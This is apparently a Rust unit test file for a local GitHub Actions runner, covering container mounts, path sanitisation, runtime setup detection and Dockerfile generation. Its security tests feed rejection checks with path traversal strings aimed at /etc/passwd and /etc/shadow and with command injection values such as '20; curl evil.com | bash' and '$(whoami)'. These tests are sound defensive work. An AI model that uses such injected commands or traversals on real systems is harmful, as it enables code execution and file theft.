use wrkflw::actions::{
    combined_image_tag, detect_setup_runtimes, determine_action_image, generate_combined_dockerfile,
    get_install_script, is_git_sha, is_safe_version, SetupRuntime,
};
use wrkflw::engine::{
    aggregate_reusable_workflow_outputs, build_needs_context, extract_docker_runs_config, DockerRunsFields,
    PreparedAction, RunsArgs,
};
use wrkflw::heredoc::generate_heredoc_delimiter;
use wrkflw::paths::{has_path_traversal, prepare_container_mounts, sanitize_dockerfile_rel, sanitize_sub_path};
use wrkflw::steps::{get_effective_runner_image, record_step_status, StepResult, StepStatus};
use wrkflw::strmap::{add_missing, StrMap};
use wrkflw::workflow::{Job, JobContainer, Step};

const COMBINED_IMAGE_PREFIX: &str = "wrkflw-combined:";

fn str_map(pairs: &[(&str, &str)]) -> StrMap<String> {
    let mut m = StrMap::new();
    for (k, v) in pairs {
        m.insert(k.to_string(), v.to_string());
    }
    m
}

fn container(image: &str, volumes: Option<Vec<&str>>) -> JobContainer {
    JobContainer {
        image: image.to_string(),
        credentials: None,
        env: StrMap::new(),
        ports: None,
        volumes: volumes.map(|v| v.into_iter().map(String::from).collect()),
        options: None,
    }
}

fn make_job(container: Option<JobContainer>, runs_on: Option<Vec<String>>) -> Job {
    Job {
        runs_on,
        needs: None,
        container,
        steps: Vec::new(),
        env: StrMap::new(),
        strategy: None,
        services: StrMap::new(),
        if_condition: None,
        outputs: None,
        permissions: None,
        uses: None,
        with: None,
        defaults: None,
    }
}

fn make_step_uses(uses: &str, with: Option<StrMap<String>>) -> Step {
    Step {
        name: None,
        uses: Some(uses.to_string()),
        run: None,
        with,
        env: StrMap::new(),
        continue_on_error: None,
        if_condition: None,
        id: None,
        working_directory: None,
        shell: None,
    }
}

fn make_step_run(run: &str) -> Step {
    Step {
        name: None,
        uses: None,
        run: Some(run.to_string()),
        with: None,
        env: StrMap::new(),
        continue_on_error: None,
        if_condition: None,
        id: None,
        working_directory: None,
        shell: None,
    }
}

fn runtime(language: &str, version: &str, install_script: &str) -> SetupRuntime {
    SetupRuntime {
        language: language.to_string(),
        version: version.to_string(),
        install_script: install_script.to_string(),
    }
}

fn runs(entrypoint: Option<&str>, args: RunsArgs) -> DockerRunsFields {
    DockerRunsFields { entrypoint: entrypoint.map(String::from), args }
}

fn get<'a>(m: &'a StrMap<String>, k: &str) -> Option<&'a str> {
    m.get(k).map(|s| s.as_str())
}

#[test]
fn is_git_sha_recognizes_valid_sha1() {
    assert!(is_git_sha("a81bbbf8298c0fa03ea29cdc473d45769f953675"));
}

#[test]
fn is_git_sha_recognizes_uppercase_hex() {
    assert!(is_git_sha("A81BBBF8298C0FA03EA29CDC473D45769F953675"));
}

#[test]
fn is_git_sha_rejects_short_hash() {
    assert!(!is_git_sha("a81bbbf"));
}

#[test]
fn is_git_sha_rejects_branch_name() {
    assert!(!is_git_sha("main"));
}

#[test]
fn is_git_sha_rejects_tag() {
    assert!(!is_git_sha("v4"));
}

#[test]
fn is_git_sha_rejects_empty() {
    assert!(!is_git_sha(""));
}

#[test]
fn is_git_sha_rejects_non_hex_40_chars() {
    assert!(!is_git_sha("zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"));
}

#[test]
fn is_git_sha_rejects_41_chars() {
    assert!(!is_git_sha("a81bbbf8298c0fa03ea29cdc473d45769f9536750"));
}

#[test]
fn effective_runner_image_prefers_container() {
    let job = make_job(Some(container("alpine:3.22", None)), Some(vec!["ubuntu-latest".into()]));
    assert_eq!(get_effective_runner_image(&job), "alpine:3.22");
}

#[test]
fn effective_runner_image_falls_back_to_runs_on() {
    let job = make_job(None, Some(vec!["ubuntu-latest".into()]));
    let image = get_effective_runner_image(&job);
    assert!(!image.is_empty());
}

#[test]
fn effective_runner_image_empty_image_falls_back() {
    let job = make_job(Some(container("", None)), Some(vec!["ubuntu-latest".into()]));
    let image = get_effective_runner_image(&job);
    assert!(!image.is_empty());
}

#[test]
fn container_mounts_docker_runtime_remaps_env_paths() {
    let mut step_env = str_map(&[("WRKFLW_RUNTIME_MODE", "docker")]);
    let job_env = str_map(&[
        ("GITHUB_ENV", "/tmp/abc/github/env"),
        ("GITHUB_OUTPUT", "/tmp/abc/github/output"),
        ("GITHUB_PATH", "/tmp/abc/github/path"),
        ("GITHUB_STEP_SUMMARY", "/tmp/abc/github/step_summary"),
    ]);

    let (volumes, github_mount) = prepare_container_mounts(&mut step_env, &job_env, None);

    assert_eq!(get(&step_env, "GITHUB_ENV"), Some("/github/workflow/env"));
    assert_eq!(get(&step_env, "GITHUB_OUTPUT"), Some("/github/workflow/output"));
    assert_eq!(get(&step_env, "GITHUB_PATH"), Some("/github/workflow/path"));
    assert_eq!(get(&step_env, "GITHUB_STEP_SUMMARY"), Some("/github/workflow/step_summary"));

    let (host, container) = github_mount.unwrap();
    assert_eq!(host, "/tmp/abc/github");
    assert_eq!(container, "/github/workflow");
    assert!(volumes.is_empty());
}

#[test]
fn container_mounts_non_container_runtime_does_not_remap() {
    let mut step_env = StrMap::new();
    let job_env = str_map(&[("GITHUB_ENV", "/tmp/abc/github/env")]);

    let (_volumes, github_mount) = prepare_container_mounts(&mut step_env, &job_env, None);

    assert!(!step_env.contains_key("GITHUB_ENV"));
    let (host, container) = github_mount.unwrap();
    assert_eq!(host, container);
}

#[test]
fn container_mounts_no_github_env() {
    let mut step_env = StrMap::new();
    let job_env = StrMap::new();

    let (volumes, github_mount) = prepare_container_mounts(&mut step_env, &job_env, None);

    assert!(github_mount.is_none());
    assert!(volumes.is_empty());
}

#[test]
fn container_mounts_parses_host_container_volumes() {
    let mut step_env = StrMap::new();
    let job_env = StrMap::new();
    let c = container("node:18", Some(vec!["/host/data:/container/data"]));

    let (volumes, _) = prepare_container_mounts(&mut step_env, &job_env, Some(&c));

    assert_eq!(volumes.len(), 1);
    assert_eq!(volumes[0].0, "/host/data");
    assert_eq!(volumes[0].1, "/container/data");
}

#[test]
fn container_mounts_parses_single_path_volumes() {
    let mut step_env = StrMap::new();
    let job_env = StrMap::new();
    let c = container("node:18", Some(vec!["/data"]));

    let (volumes, _) = prepare_container_mounts(&mut step_env, &job_env, Some(&c));

    assert_eq!(volumes.len(), 1);
    assert_eq!(volumes[0].0, "/data");
    assert_eq!(volumes[0].1, "/data");
}

#[test]
fn container_mounts_strips_docker_options_from_volumes() {
    let mut step_env = StrMap::new();
    let job_env = StrMap::new();
    let c = container("node:18", Some(vec!["/host:/container:ro", "/src:/dest:rw"]));

    let (volumes, _) = prepare_container_mounts(&mut step_env, &job_env, Some(&c));

    assert_eq!(volumes.len(), 2);
    assert_eq!(volumes[0].0, "/host");
    assert_eq!(volumes[0].1, "/container");
    assert_eq!(volumes[1].0, "/src");
    assert_eq!(volumes[1].1, "/dest");
}

#[test]
fn container_mounts_podman_runtime_remaps_env_paths() {
    let mut step_env = str_map(&[("WRKFLW_RUNTIME_MODE", "podman")]);
    let job_env = str_map(&[
        ("GITHUB_ENV", "/tmp/xyz/github/env"),
        ("GITHUB_OUTPUT", "/tmp/xyz/github/output"),
        ("GITHUB_PATH", "/tmp/xyz/github/path"),
        ("GITHUB_STEP_SUMMARY", "/tmp/xyz/github/step_summary"),
    ]);

    let (_, github_mount) = prepare_container_mounts(&mut step_env, &job_env, None);

    assert_eq!(get(&step_env, "GITHUB_ENV"), Some("/github/workflow/env"));
    assert!(github_mount.is_some());
}

#[test]
fn container_mounts_only_remaps_existing_env_keys() {
    let mut step_env = str_map(&[("WRKFLW_RUNTIME_MODE", "docker")]);
    let job_env = str_map(&[("GITHUB_ENV", "/tmp/abc/github/env")]);

    let (_, _) = prepare_container_mounts(&mut step_env, &job_env, None);

    assert_eq!(get(&step_env, "GITHUB_ENV"), Some("/github/workflow/env"));
    assert!(!step_env.contains_key("GITHUB_OUTPUT"));
    assert!(!step_env.contains_key("GITHUB_PATH"));
    assert!(!step_env.contains_key("GITHUB_STEP_SUMMARY"));
}

#[test]
fn container_mounts_skips_empty_container_path() {
    let mut step_env = StrMap::new();
    let job_env = StrMap::new();
    let c = container("node:18", Some(vec!["/host:", ":/container"]));

    let (volumes, _) = prepare_container_mounts(&mut step_env, &job_env, Some(&c));

    assert!(volumes.is_empty());
}

#[test]
fn container_env_has_lowest_precedence() {
    let mut job_env = StrMap::new();
    let mut c = container("node:18", None);
    c.env = str_map(&[("SHARED", "from-container"), ("CONTAINER_ONLY", "container-value")]);
    add_missing(&mut job_env, &c.env);

    let job_level_env = str_map(&[("SHARED", "from-job"), ("JOB_ONLY", "job-value")]);
    for k in job_level_env.keys() {
        let v = job_level_env.get(&k).unwrap().clone();
        job_env.insert(k, v);
    }

    assert_eq!(get(&job_env, "SHARED"), Some("from-job"));
    assert_eq!(get(&job_env, "CONTAINER_ONLY"), Some("container-value"));
    assert_eq!(get(&job_env, "JOB_ONLY"), Some("job-value"));
}

#[test]
fn volume_traversal_check_rejects_host_traversal() {
    assert!(has_path_traversal("../../../etc/passwd"));
    assert!(has_path_traversal("/safe/../etc/passwd"));
}

#[test]
fn volume_traversal_check_allows_dotdot_in_container_path() {
    let vol_spec = "/safe/host:/container/..weird";
    let parts: Vec<&str> = vol_spec.splitn(3, ':').collect();
    assert!(!has_path_traversal(parts[0]));
}

#[test]
fn volume_traversal_allows_double_dot_prefix_dir() {
    assert!(!has_path_traversal("/data/..hidden/files"));
}

#[test]
fn prepared_action_native_docker_stores_fields() {
    let pa = PreparedAction::NativeDocker {
        image: "ghcr.io/super-linter:latest".to_string(),
        entrypoint: Some("/entrypoint.sh".to_string()),
        args: vec!["--flag".to_string(), "value".to_string()],
    };
    match pa {
        PreparedAction::NativeDocker { image, entrypoint, args } => {
            assert_eq!(image, "ghcr.io/super-linter:latest");
            assert_eq!(entrypoint.as_deref(), Some("/entrypoint.sh"));
            assert_eq!(args, vec!["--flag", "value"]);
        }
        _ => panic!("expected NativeDocker variant"),
    }
}

#[test]
fn prepared_action_native_docker_defaults() {
    let pa = PreparedAction::NativeDocker {
        image: "alpine:latest".to_string(),
        entrypoint: None,
        args: vec![],
    };
    match pa {
        PreparedAction::NativeDocker { entrypoint, args, .. } => {
            assert!(entrypoint.is_none());
            assert!(args.is_empty());
        }
        _ => panic!("expected NativeDocker variant"),
    }
}

#[test]
fn extract_runs_config_with_entrypoint_and_args() {
    let r = runs(Some("/entrypoint.sh"), RunsArgs::List(vec!["--flag".into(), "value".into()]));
    let (ep, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert_eq!(ep.as_deref(), Some("/entrypoint.sh"));
    assert_eq!(args, vec!["--flag", "value"]);
}

#[test]
fn extract_runs_config_missing_both() {
    let r = runs(None, RunsArgs::Absent);
    let (ep, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert!(ep.is_none());
    assert!(args.is_empty());
}

#[test]
fn extract_runs_config_none_definition() {
    let (ep, args) = extract_docker_runs_config(None).unwrap();
    assert!(ep.is_none());
    assert!(args.is_empty());
}

#[test]
fn extract_runs_config_entrypoint_only() {
    let r = runs(Some("/custom.sh"), RunsArgs::Absent);
    let (ep, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert_eq!(ep.as_deref(), Some("/custom.sh"));
    assert!(args.is_empty());
}

#[test]
fn extract_runs_config_args_only() {
    let r = runs(None, RunsArgs::List(vec!["hello".into()]));
    let (ep, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert!(ep.is_none());
    assert_eq!(args, vec!["hello"]);
}

#[test]
fn extract_runs_config_args_as_string() {
    let r = runs(None, RunsArgs::Text("--flag value 'quoted arg'".into()));
    let (ep, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert!(ep.is_none());
    assert_eq!(args, vec!["--flag", "value", "quoted arg"]);
}

#[test]
fn extract_runs_config_args_as_plain_string() {
    let r = runs(None, RunsArgs::Text("hello".into()));
    let (ep, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert!(ep.is_none());
    assert_eq!(args, vec!["hello"]);
}

#[test]
fn extract_runs_config_args_string_bad_quoting_is_error() {
    let r = runs(None, RunsArgs::Text("hello 'world".into()));
    let result = extract_docker_runs_config(Some(&r));
    assert!(result.is_err(), "unmatched quote should return Err");
    assert!(result.unwrap_err().contains("unmatched quote"));
}

#[test]
fn extract_runs_config_args_coerces_non_string_values() {
    // The YAML list `[42, true, --flag]` reaches the library as the texts of its items.
    let r = runs(None, RunsArgs::List(vec!["42".into(), "true".into(), "--flag".into()]));
    let (_, args) = extract_docker_runs_config(Some(&r)).unwrap();
    assert_eq!(args.len(), 3);
    assert_eq!(args[0], "42");
    assert_eq!(args[1], "true");
    assert_eq!(args[2], "--flag");
}

#[test]
fn extract_runs_config_empty_entrypoint_treated_as_none() {
    let r = runs(Some(""), RunsArgs::Absent);
    let (ep, _) = extract_docker_runs_config(Some(&r)).unwrap();
    assert!(ep.is_none(), "empty entrypoint string should be treated as None");
}

#[test]
fn dockerfile_rel_strips_docker_prefix() {
    assert_eq!(sanitize_dockerfile_rel("docker://Dockerfile").unwrap(), "Dockerfile");
}

#[test]
fn dockerfile_rel_strips_leading_slash() {
    assert_eq!(sanitize_dockerfile_rel("docker:///etc/Dockerfile").unwrap(), "etc/Dockerfile");
}

#[test]
fn dockerfile_rel_rejects_dotdot_traversal() {
    assert!(sanitize_dockerfile_rel("docker://../../etc/passwd").is_err());
}

#[test]
fn dockerfile_rel_rejects_dotdot_in_middle() {
    assert!(sanitize_dockerfile_rel("subdir/../../../etc/shadow").is_err());
}

#[test]
fn dockerfile_rel_rejects_backslash_traversal() {
    assert!(sanitize_dockerfile_rel("..\\..\\etc\\shadow").is_err());
}

#[test]
fn dockerfile_rel_rejects_mixed_separator_traversal() {
    assert!(sanitize_dockerfile_rel("subdir\\..\\..\\etc/shadow").is_err());
}

#[test]
fn dockerfile_rel_plain_dockerfile() {
    assert_eq!(sanitize_dockerfile_rel("Dockerfile").unwrap(), "Dockerfile");
}

#[test]
fn dockerfile_rel_relative_path() {
    assert_eq!(sanitize_dockerfile_rel("./build/Dockerfile").unwrap(), "build/Dockerfile");
}

#[test]
fn dockerfile_rel_allows_dotdot_in_filename() {
    assert_eq!(sanitize_dockerfile_rel("foo..bar/Dockerfile").unwrap(), "foo..bar/Dockerfile");
}

#[test]
fn dockerfile_rel_rejects_empty_string() {
    assert!(sanitize_dockerfile_rel("").is_err());
}

#[test]
fn dockerfile_rel_rejects_docker_prefix_only() {
    assert!(sanitize_dockerfile_rel("docker://").is_err());
}

#[test]
fn sub_path_allows_simple_path() {
    assert!(sanitize_sub_path("subdir").is_ok());
}

#[test]
fn sub_path_allows_nested_path() {
    assert!(sanitize_sub_path("a/b/c").is_ok());
}

#[test]
fn sub_path_rejects_dotdot() {
    assert!(sanitize_sub_path("..").is_err());
}

#[test]
fn sub_path_rejects_dotdot_prefix() {
    assert!(sanitize_sub_path("../../etc").is_err());
}

#[test]
fn sub_path_rejects_dotdot_in_middle() {
    assert!(sanitize_sub_path("a/../../../etc").is_err());
}

#[test]
fn sub_path_allows_dotdot_in_name() {
    assert!(sanitize_sub_path("foo..bar").is_ok());
}

#[test]
fn sub_path_rejects_null_byte() {
    assert!(sanitize_sub_path("foo\0bar").is_err());
}

#[test]
fn dockerfile_rel_rejects_null_byte() {
    assert!(sanitize_dockerfile_rel("Dockerfile\0.txt").is_err());
}

#[test]
fn sub_path_rejects_backslash_dotdot() {
    assert!(sanitize_sub_path("a\\..\\..\\etc").is_err());
}

#[test]
fn sub_path_rejects_mixed_separator_dotdot() {
    assert!(sanitize_sub_path("a/..\\..\\etc").is_err());
}

#[test]
fn detect_setup_runtimes_empty_steps() {
    let runtimes = detect_setup_runtimes(&vec![]);
    assert!(runtimes.is_empty());
}

#[test]
fn detect_setup_runtimes_no_setup_actions() {
    let steps = vec![
        make_step_uses("actions/checkout@v4", None),
        make_step_uses("actions/cache@v3", None),
        make_step_run("echo hello"),
    ];
    let runtimes = detect_setup_runtimes(&steps);
    assert!(runtimes.is_empty());
}

#[test]
fn detect_setup_runtimes_single_node() {
    let steps = vec![
        make_step_uses("actions/checkout@v4", None),
        make_step_uses("actions/setup-node@v3", None),
        make_step_run("npm install"),
    ];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "node");
    assert_eq!(runtimes[0].version, "20");
    assert!(!runtimes[0].install_script.is_empty());
}

#[test]
fn detect_setup_runtimes_node_with_version() {
    let with = str_map(&[("node-version", "16.x")]);
    let steps = vec![make_step_uses("actions/setup-node@v3", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "node");
    assert_eq!(runtimes[0].version, "16");
}

#[test]
fn detect_setup_runtimes_php() {
    let with = str_map(&[("php", "8.1")]);
    let steps = vec![make_step_uses("shivammathur/setup-php@v2", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "php");
    assert_eq!(runtimes[0].version, "8.1");
}

#[test]
fn detect_setup_runtimes_multi_language() {
    let steps = vec![
        make_step_uses("actions/checkout@v4", None),
        make_step_uses("shivammathur/setup-php@v2", None),
        make_step_uses("actions/setup-node@v4", None),
        make_step_run("composer install"),
        make_step_run("npm install"),
    ];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 2);
    assert_eq!(runtimes[0].language, "php");
    assert_eq!(runtimes[1].language, "node");
}

#[test]
fn detect_setup_runtimes_python_with_version() {
    let with = str_map(&[("python-version", "3.12")]);
    let steps = vec![make_step_uses("actions/setup-python@v5", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "python");
    assert_eq!(runtimes[0].version, "3.12");
}

#[test]
fn detect_setup_runtimes_go() {
    let with = str_map(&[("go-version", "1.22")]);
    let steps = vec![make_step_uses("actions/setup-go@v5", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "go");
    assert_eq!(runtimes[0].version, "1.22");
}

#[test]
fn detect_setup_runtimes_rust() {
    let steps = vec![make_step_uses("dtolnay/rust-toolchain@stable", None)];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "rust");
    assert_eq!(runtimes[0].version, "stable");
}

#[test]
fn detect_setup_runtimes_rust_version_from_ref() {
    let steps = vec![make_step_uses("dtolnay/rust-toolchain@nightly", None)];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "rust");
    assert_eq!(runtimes[0].version, "nightly");
}

#[test]
fn detect_setup_runtimes_rust_with_overrides_ref() {
    let with = str_map(&[("toolchain", "beta")]);
    let steps = vec![make_step_uses("dtolnay/rust-toolchain@nightly", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].version, "beta");
}

#[test]
fn detect_setup_runtimes_rust_sha_ref_falls_back_to_default() {
    let steps = vec![make_step_uses(
        "dtolnay/rust-toolchain@d4ff7a3c5bbbc35c47ee72003c3e0a88e24a9919",
        None,
    )];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "rust");
    assert_eq!(runtimes[0].version, "stable");
}

#[test]
fn detect_setup_runtimes_normalizes_dot_x_suffix() {
    let with = str_map(&[("node-version", "16.x")]);
    let steps = vec![make_step_uses("actions/setup-node@v3", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].version, "16");
}

#[test]
fn detect_setup_runtimes_java() {
    let with = str_map(&[("java-version", "21")]);
    let steps = vec![make_step_uses("actions/setup-java@v4", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "java");
    assert_eq!(runtimes[0].version, "21");
}

#[test]
fn detect_setup_runtimes_dotnet() {
    let with = str_map(&[("dotnet-version", "8.0")]);
    let steps = vec![make_step_uses("actions/setup-dotnet@v4", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].language, "dotnet");
    assert_eq!(runtimes[0].version, "8.0");
}

#[test]
fn get_install_script_returns_nonempty_for_known_languages() {
    for lang in &["node", "php", "python", "go", "java", "dotnet", "rust"] {
        let script = get_install_script(lang, "latest");
        assert!(!script.is_empty(), "install script for {} should not be empty", lang);
    }
}

#[test]
fn get_install_script_returns_empty_for_unknown() {
    assert!(get_install_script("unknown_lang", "1.0").is_empty());
}

#[test]
fn is_safe_version_accepts_valid() {
    assert!(is_safe_version("20"));
    assert!(is_safe_version("3.12"));
    assert!(is_safe_version("16.x"));
    assert!(is_safe_version("8.2-rc1"));
    assert!(is_safe_version("stable"));
    assert!(is_safe_version("1.21_beta"));
}

#[test]
fn is_safe_version_rejects_injection() {
    assert!(!is_safe_version(""));
    assert!(!is_safe_version("20; curl evil.com | bash"));
    assert!(!is_safe_version("20\nRUN malicious"));
    assert!(!is_safe_version("20 && echo pwned"));
    assert!(!is_safe_version("$(whoami)"));
    assert!(!is_safe_version("20`id`"));
}

#[test]
fn detect_setup_runtimes_skips_invalid_version() {
    let with = str_map(&[("node-version", "20; curl evil.com | bash")]);
    let steps = vec![make_step_uses("actions/setup-node@v3", Some(with))];
    let runtimes = detect_setup_runtimes(&steps);
    assert!(runtimes.is_empty());
}

#[test]
fn detect_setup_runtimes_deduplicates_same_language() {
    let with_16 = str_map(&[("node-version", "16")]);
    let with_20 = str_map(&[("node-version", "20")]);
    let steps = vec![
        make_step_uses("actions/setup-node@v3", Some(with_16)),
        make_step_uses("actions/setup-node@v4", Some(with_20)),
    ];
    let runtimes = detect_setup_runtimes(&steps);
    assert_eq!(runtimes.len(), 1);
    assert_eq!(runtimes[0].version, "20");
}

#[test]
fn detect_setup_runtimes_ignores_similar_action_names() {
    let steps = vec![
        make_step_uses("actions/setup-node-legacy@v1", None),
        make_step_uses("actions/setup-nodejs@v1", None),
    ];
    let runtimes = detect_setup_runtimes(&steps);
    assert!(runtimes.is_empty());
}

#[test]
fn determine_action_image_exact_match_setup_actions() {
    assert_eq!(determine_action_image("actions/setup-node"), "catthehacker/ubuntu:act-latest");
    assert_eq!(determine_action_image("actions/setup-python"), "catthehacker/ubuntu:act-latest");
    assert_eq!(determine_action_image("shivammathur/setup-php"), "catthehacker/ubuntu:act-latest");
    assert_eq!(determine_action_image("dtolnay/rust-toolchain"), "catthehacker/ubuntu:act-latest");
}

#[test]
fn determine_action_image_rejects_similar_names() {
    assert_eq!(determine_action_image("actions/setup-node-legacy"), "node:20-slim");
    assert_eq!(determine_action_image("actions/setup-nodejs"), "node:20-slim");
}

#[test]
fn determine_action_image_core_actions() {
    assert_eq!(determine_action_image("actions/checkout"), "catthehacker/ubuntu:act-latest");
    assert_eq!(determine_action_image("actions/cache"), "catthehacker/ubuntu:act-latest");
}

#[test]
fn determine_action_image_namespace_prefix() {
    assert_eq!(determine_action_image("docker/build-push-action"), "docker:latest");
    assert_eq!(determine_action_image("docker/login-action"), "docker:latest");
    assert_eq!(determine_action_image("aws-actions/configure-aws-credentials"), "amazon/aws-cli:latest");
}

#[test]
fn generate_combined_dockerfile_single_runtime() {
    let runtimes = vec![SetupRuntime {
        language: "node".to_string(),
        version: "20".to_string(),
        install_script: get_install_script("node", "20"),
    }];
    let df = generate_combined_dockerfile(&runtimes, "ubuntu:latest");
    assert!(df.starts_with("FROM ubuntu:latest\n"));
    assert!(df.contains("nodesource"));
    assert_eq!(df.matches("RUN ").count(), 1);
}

#[test]
fn generate_combined_dockerfile_multi_runtime_single_run() {
    let runtimes = vec![
        SetupRuntime {
            language: "node".to_string(),
            version: "20".to_string(),
            install_script: get_install_script("node", "20"),
        },
        SetupRuntime {
            language: "python".to_string(),
            version: "3.12".to_string(),
            install_script: get_install_script("python", "3.12"),
        },
    ];
    let df = generate_combined_dockerfile(&runtimes, "ubuntu:latest");
    assert_eq!(df.matches("RUN ").count(), 1);
    assert!(df.contains("nodesource"));
    assert!(df.contains("deadsnakes"));
}

#[test]
fn generate_combined_dockerfile_skips_empty_scripts() {
    let runtimes = vec![runtime("unknown", "1.0", "")];
    let df = generate_combined_dockerfile(&runtimes, "ubuntu:latest");
    assert_eq!(df.matches("RUN ").count(), 1);
}

#[test]
fn combined_image_tag_is_deterministic() {
    let runtimes = vec![
        runtime("node", "20", "install node"),
        runtime("python", "3.12", "install python"),
    ];
    let df = "FROM base\nRUN install stuff\n";
    let tag1 = combined_image_tag(COMBINED_IMAGE_PREFIX, &runtimes, df);
    let tag2 = combined_image_tag(COMBINED_IMAGE_PREFIX, &runtimes, df);
    assert_eq!(tag1, tag2);
    assert!(tag1.starts_with(COMBINED_IMAGE_PREFIX));
}

#[test]
fn combined_image_tag_changes_when_dockerfile_changes() {
    let runtimes = vec![runtime("node", "20", "install node v1")];
    let tag1 = combined_image_tag(COMBINED_IMAGE_PREFIX, &runtimes, "FROM base\nRUN v1\n");
    let tag2 = combined_image_tag(COMBINED_IMAGE_PREFIX, &runtimes, "FROM base\nRUN v2\n");
    assert_ne!(tag1, tag2);
}

#[test]
fn combined_image_tag_sorts_languages() {
    let runtimes_ab = vec![runtime("a", "1", ""), runtime("b", "2", "")];
    let runtimes_ba = vec![runtime("b", "2", ""), runtime("a", "1", "")];
    let df = "same";
    let tag_ab = combined_image_tag(COMBINED_IMAGE_PREFIX, &runtimes_ab, df);
    let tag_ba = combined_image_tag(COMBINED_IMAGE_PREFIX, &runtimes_ba, df);
    assert_eq!(tag_ab, tag_ba);
}

#[test]
fn record_step_status_tracks_outcome_and_conclusion() {
    let mut map = StrMap::new();
    let mut status = "success".to_string();

    let result = StepResult {
        name: "build".to_string(),
        status: StepStatus::Failure,
        output: String::new(),
        outcome: StepStatus::Failure,
        conclusion: StepStatus::Success,
    };
    record_step_status(Some("build"), &result, &mut map, &mut status);

    let (outcome, conclusion) = map.get("build").unwrap();
    assert_eq!(outcome, "failure");
    assert_eq!(conclusion, "success");
    assert_eq!(status, "success");
}

#[test]
fn record_step_status_sets_job_failure_on_failed_conclusion() {
    let mut map = StrMap::new();
    let mut status = "success".to_string();

    let result = StepResult::new("test".to_string(), StepStatus::Failure, String::new());
    record_step_status(Some("test"), &result, &mut map, &mut status);

    assert_eq!(status, "failure");
}

#[test]
fn record_step_status_ignores_steps_without_id() {
    let mut map = StrMap::new();
    let mut status = "success".to_string();

    let result = StepResult::new("anon".to_string(), StepStatus::Success, String::new());
    record_step_status(None, &result, &mut map, &mut status);

    assert_eq!(map.len(), 0);
}

#[test]
fn step_outcome_conclusion_with_continue_on_error() {
    let mut step_statuses = StrMap::new();
    let mut job_status = "success".to_string();

    let result = StepResult {
        name: "lint".to_string(),
        status: StepStatus::Failure,
        output: String::new(),
        outcome: StepStatus::Failure,
        conclusion: StepStatus::Success,
    };
    record_step_status(Some("lint"), &result, &mut step_statuses, &mut job_status);

    assert_eq!(job_status, "success");
    let (outcome, conclusion) = step_statuses.get("lint").unwrap();
    assert_eq!(outcome, "failure");
    assert_eq!(conclusion, "success");
}

fn nested(pairs: &[(&str, &[(&str, &str)])]) -> StrMap<StrMap<String>> {
    let mut m = StrMap::new();
    for (k, inner) in pairs {
        m.insert(k.to_string(), str_map(inner));
    }
    m
}

#[test]
fn build_needs_context_filters_to_declared_deps() {
    let mut job = make_job(None, None);
    job.needs = Some(vec!["build".to_string()]);

    let all_outputs = nested(&[
        ("build", &[("artifact", "foo.tar.gz")]),
        ("deploy", &[("url", "https://example.com")]),
    ]);
    let all_results = str_map(&[("build", "success"), ("deploy", "failure")]);

    let (needs_out, needs_res) = build_needs_context(&job, &all_outputs, &all_results);

    assert!(needs_out.contains_key("build"));
    assert!(!needs_out.contains_key("deploy"));
    assert_eq!(get(&needs_res, "build"), Some("success"));
    assert!(!needs_res.contains_key("deploy"));
}

#[test]
fn build_needs_context_empty_when_no_needs_declared() {
    let job = make_job(None, None);
    let all_outputs = nested(&[("build", &[])]);
    let all_results = str_map(&[("build", "success")]);

    let (needs_outputs, needs_results) = build_needs_context(&job, &all_outputs, &all_results);

    assert_eq!(needs_outputs.len(), 0);
    assert_eq!(needs_results.len(), 0);
}

#[test]
fn build_needs_context_ignores_missing_upstream_jobs() {
    let mut job = make_job(None, None);
    job.needs = Some(vec!["nonexistent".to_string()]);

    let (needs_outputs, needs_results) = build_needs_context(&job, &StrMap::new(), &StrMap::new());

    assert_eq!(needs_outputs.len(), 0);
    assert_eq!(needs_results.len(), 0);
}

#[test]
fn build_needs_context_filters_to_declared_needs() {
    let all_outputs = nested(&[
        ("build", &[("version", "1.2.3")]),
        ("lint", &[("status", "ok")]),
        ("deploy", &[("url", "https://example.com")]),
    ]);
    let all_results = str_map(&[("build", "success"), ("lint", "success"), ("deploy", "failure")]);

    let mut job = make_job(None, None);
    job.needs = Some(vec!["build".to_string(), "lint".to_string()]);

    let (needs_out, needs_res) = build_needs_context(&job, &all_outputs, &all_results);
    assert_eq!(needs_out.len(), 2);
    assert!(needs_out.contains_key("build"));
    assert!(needs_out.contains_key("lint"));
    assert!(!needs_out.contains_key("deploy"));
    assert_eq!(get(&needs_res, "build"), Some("success"));
    assert_eq!(get(&needs_res, "lint"), Some("success"));
    assert!(!needs_res.contains_key("deploy"));
}

#[test]
fn aggregate_reusable_workflow_outputs_merges_all_jobs() {
    let job_outputs = nested(&[("build", &[("artifact", "build.tar")]), ("test", &[("coverage", "92%")])]);
